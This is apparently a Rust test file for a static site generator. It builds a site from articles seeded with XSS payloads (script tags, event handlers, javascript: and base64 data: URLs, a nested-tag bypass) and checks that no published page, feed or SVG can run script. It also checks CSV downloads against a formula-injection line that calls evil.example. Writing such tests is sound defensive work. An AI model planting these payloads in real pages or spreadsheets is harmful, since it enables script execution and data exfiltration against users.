//! Articles come from outside and are published straight to the web: script
//! written into an article's text or front matter must never run on the
//! published site. Every output file is parsed and inspected.

mod common;

use std::path::Path;

use common::*;
use predicates::prelude::*;

/// The three classic payloads, as an analyst might paste them by accident
/// (or an attacker on purpose).
const PAYLOAD: &str =
    "<script>alert(1)</script> <img src=x onerror=alert(1)> [x](javascript:alert(1))";

/// A YAML double-quoted string holding `text`.
fn quoted(text: &str) -> String {
    format!("\"{}\"", text.replace('\\', "\\\\").replace('"', "\\\""))
}

fn hostile_site(dir: &Path) {
    let p = quoted(PAYLOAD);
    write(
        &dir.join("site.toml"),
        &format!(
            "title = {p}\nsubtitle = {p}\ndescription = {p}\norganisation = {p}\n\
             base_url = \"https://example.github.io/b/\"\n[briefing]\nmarking = {p}\n"
        ),
    );
    write(
        &dir.join("content/hostile.md"),
        &format!(
            "---\ntitle: {p}\ndate: 2024-05-01\nsource: {p}\nvia: {p}\n\
             url: \"javascript:alert(1)\"\ndateline: {p}\ncountries: [Iran, {p}]\n\
             mentions: [{p}]\ntopics: [energy, {p}]\n\
             people:\n  - {{name: {p}, role: {p}}}\n  - {p}\n\
             figures:\n  - {{value: 5, unit: {p}, label: {p}, text: {p}, sentence: {p}, \
             period: {p}, qualifier: {p}, countries: [Iran, {p}]}}\n\
             summary: {p}\nsource_file: {p}\n---\n\n\
             {PAYLOAD}\n\n## {PAYLOAD}\n\n\
             <a href=\"javascript:alert(1)\">a</a> <svg onload=alert(1)><circle/></svg>\n\n\
             <iframe srcdoc=\"<script>alert(1)</script>\"></iframe>\n\n\
             <object data=\"javascript:alert(1)\"></object><embed src=x>\n\n\
             <div><scr<script>ipt>alert(1)</script></div>\n\n\
             [d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) \
             ![i](javascript:alert(1)) <javascript:alert(1)> [e](JaVaScRiPt&#58;alert(1))\n\n\
             <meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">\n\n\
             | {PAYLOAD} |\n|---|\n| <b onmouseover=alert(1)>cell</b> |\n"
        ),
    );
    write(
        &dir.join("content/plain.md"),
        "---\ntitle: A plain article\ndate: 2024-04-01\ncountries: [Iran]\ntopics: [trade]\n---\nText.\n",
    );
    write(
        &dir.join("articles/raw.txt"),
        &format!("{PAYLOAD}\n\nBAKU, Azerbaijan, May 2. {PAYLOAD} Iran exported 5 tons of gas.\n"),
    );
}

/// Whether a Content-Security-Policy lets only the site's own script files run.
fn only_own_scripts(policy: &str) -> bool {
    let directive = |name: &str| {
        policy
            .split(';')
            .map(str::trim)
            .find_map(|d| d.strip_prefix(name).map(str::trim))
    };
    // 'wasm-unsafe-eval' lets the search page compile Pagefind's
    // WebAssembly; it allows no JavaScript eval.
    matches!(
        directive("script-src "),
        Some("'self'" | "'self' 'wasm-unsafe-eval'")
    ) && directive("default-src ") == Some("'self'")
        && directive("object-src ") == Some("'none'")
}

/// Whether a URL attribute's value would run script when followed or loaded.
fn is_script_url(value: &str) -> bool {
    let squeezed: String = value
        .chars()
        .filter(|c| !c.is_whitespace() && !c.is_control())
        .collect::<String>()
        .to_ascii_lowercase();
    ["javascript:", "vbscript:", "data:"]
        .iter()
        .any(|s| squeezed.starts_with(s))
}

/// Every way `html` could run script; `own_scripts` are the script files the
/// site itself ships.
fn script_in_html(html: &str, whole_page: bool) -> Vec<String> {
    let doc = if whole_page {
        scraper::Html::parse_document(html)
    } else {
        scraper::Html::parse_fragment(html)
    };
    let mut found = Vec::new();
    let mut csp = 0;
    for node in doc.tree.nodes() {
        let Some(element) = node.value().as_element() else {
            continue;
        };
        let name = element.name();
        if name == "script" {
            let own = element.attr("src").is_some_and(|src| {
                !src.contains(':')
                    && (src.ends_with("theme/tables.js") || src.ends_with("theme/search.js"))
            });
            let empty = scraper::ElementRef::wrap(node)
                .is_some_and(|e| e.text().all(|t| t.trim().is_empty()));
            if !(own && empty) {
                found.push(format!(
                    "<script> {:?}",
                    element.attrs().collect::<Vec<_>>()
                ));
            }
        }
        if matches!(
            name,
            "iframe" | "object" | "embed" | "frame" | "base" | "applet"
        ) {
            found.push(format!("<{name}>"));
        }
        for (attr, value) in element.attrs() {
            let attr = attr.to_ascii_lowercase();
            if attr.starts_with("on") {
                found.push(format!("<{name} {attr}={value:?}>"));
            }
            let url_attr = matches!(
                attr.as_str(),
                "href" | "src" | "action" | "formaction" | "data" | "xlink:href" | "srcdoc"
            );
            if url_attr && (attr == "srcdoc" || is_script_url(value)) {
                found.push(format!("<{name} {attr}={value:?}>"));
            }
        }
        if name == "meta" {
            match element
                .attr("http-equiv")
                .map(str::to_ascii_lowercase)
                .as_deref()
            {
                Some("refresh") => found.push("<meta http-equiv=refresh>".into()),
                Some("content-security-policy") => {
                    csp += 1;
                    if !only_own_scripts(element.attr("content").unwrap_or("")) {
                        found.push(format!("weak CSP {:?}", element.attr("content")));
                    }
                }
                _ => {}
            }
        }
    }
    if whole_page && csp != 1 {
        found.push(format!("{csp} Content-Security-Policy meta tags, not 1"));
    }
    found
}

/// Every way an XML file (feed, sitemap, SVG) could carry script, including
/// the HTML a feed reader would render from the feed's content.
fn script_in_xml(text: &str) -> Vec<String> {
    let doc = match roxmltree::Document::parse(text) {
        Ok(doc) => doc,
        Err(e) => return vec![format!("not well-formed XML: {e}")],
    };
    let mut found = Vec::new();
    for node in doc.descendants().filter(|n| n.is_element()) {
        let name = node.tag_name().name();
        if name == "script" {
            found.push("<script>".into());
        }
        for attr in node.attributes() {
            if attr.name().to_ascii_lowercase().starts_with("on") || is_script_url(attr.value()) {
                found.push(format!("<{name} {}={:?}>", attr.name(), attr.value()));
            }
        }
        // Atom text constructs are plain text unless typed "html".
        if node.attribute("type") == Some("html") {
            let html = node.text().unwrap_or("");
            found.extend(
                script_in_html(html, false)
                    .into_iter()
                    .map(|f| format!("<{name}> {f}")),
            );
        }
    }
    found
}

#[test]
fn no_output_file_carries_executable_script() {
    let site = tempfile::tempdir().unwrap();
    hostile_site(site.path());
    briefing()
        .current_dir(site.path())
        .arg("build")
        .assert()
        .success()
        .stderr(predicate::str::contains("panicked").not());
    let out = site.path().join("public");
    let tree = read_tree(&out);
    let articles = tree
        .keys()
        .filter(|k| k.starts_with("articles/") && k.matches('/').count() == 2)
        .count();
    assert_eq!(
        articles,
        3,
        "two content files and the imported raw article: {:?}",
        tree.keys()
    );
    let mut checked = 0;
    let mut problems = Vec::new();
    for (path, bytes) in &tree {
        let text = String::from_utf8_lossy(bytes);
        let found = if path.ends_with(".html") {
            script_in_html(&text, true)
        } else if path.ends_with(".xml") || path.ends_with(".svg") {
            script_in_xml(&text)
        } else {
            continue;
        };
        checked += 1;
        problems.extend(found.into_iter().map(|f| format!("{path}: {f}")));
    }
    assert!(checked > 20, "only {checked} pages checked");
    assert!(problems.is_empty(), "{}", problems.join("\n"));

    // The payload is shown as the text it is, not dropped: readers see what
    // the article said.
    let headings: Vec<String> = tree
        .keys()
        .filter(|k| k.starts_with("articles/") && k.ends_with("/index.html"))
        .flat_map(|k| {
            let page = parse_html(&out.join(k));
            select(&page, "main h1")
                .iter()
                .map(text_of)
                .collect::<Vec<_>>()
        })
        .collect();
    assert!(
        headings
            .iter()
            .any(|h| h.contains("<script>alert(1)</script> <img src=x onerror=alert(1)>")),
        "{headings:?}"
    );
}

/// Builds the site in `dir` and parses the page of its article `a`.
fn build_article_a(dir: &Path) -> scraper::Html {
    briefing().current_dir(dir).arg("build").assert().success();
    parse_html(&dir.join("public/articles/a/index.html"))
}

#[test]
fn raw_html_is_kept_when_the_site_allows_it() {
    let site = tempfile::tempdir().unwrap();
    write(&site.path().join("site.toml"), "allow_raw_html = true\n");
    write(
        &site.path().join("content/a.md"),
        "---\ntitle: A\n---\n<aside class=\"note\">Trusted <em>note</em></aside>\n\n<span style=\"color: red\">red</span>\n",
    );
    let page = build_article_a(site.path());
    assert_eq!(select(&page, "aside.note em").len(), 1);
    assert_eq!(select(&page, "span[style]").len(), 1);

    // Without the setting, the same text keeps its words but loses the markup
    // ammonia does not allow.
    write(&site.path().join("site.toml"), "");
    let page = build_article_a(site.path());
    assert!(select(&page, "span[style]").is_empty());
    assert!(text_of(&select(&page, "main")[0]).contains("Trusted note"));
}

/// A title, a name or a label that a spreadsheet would run as a formula
/// comes out of every CSV download as text: prefixed with `'`.
#[test]
fn csv_downloads_never_carry_a_formula() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("site.toml"), "").unwrap();
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    write(
        &dir.path().join("content/formula.md"),
        &format!(
            "---\ntitle: {}\ndate: 2024-05-01\nsource: \"@SUM(1+1)\"\ncountries: [Iran]\n\
             topics: [energy]\npeople:\n  - {{name: \"+cmd\", role: \"-2+3\"}}\n\
             figures:\n  - {{value: -5, unit: USD, label: \"=1+1\", text: \"-5 dollars\", \
             sentence: \"=A1\"}}\n---\n\nText.\n",
            quoted(formula)
        ),
    );
    let out = dir.path().join("public");
    briefing()
        .args(["build", "--root"])
        .arg(dir.path())
        .arg("--output")
        .arg(&out)
        .assert()
        .success();
    let mut files = 0;
    let mut seen_title = false;
    for entry in walkdir::WalkDir::new(&out) {
        let entry = entry.unwrap();
        if entry.path().extension().is_none_or(|e| e != "csv") {
            continue;
        }
        files += 1;
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_path(entry.path())
            .unwrap();
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
                assert!(
                    !risky || cell.parse::<f64>().is_ok(),
                    "{}: cell {cell:?} would run as a formula",
                    entry.path().display()
                );
                seen_title |= cell == format!("'{formula}");
            }
        }
    }
    assert!(files >= 3, "the build writes its CSV downloads");
    assert!(seen_title, "the title is kept, as text");
}
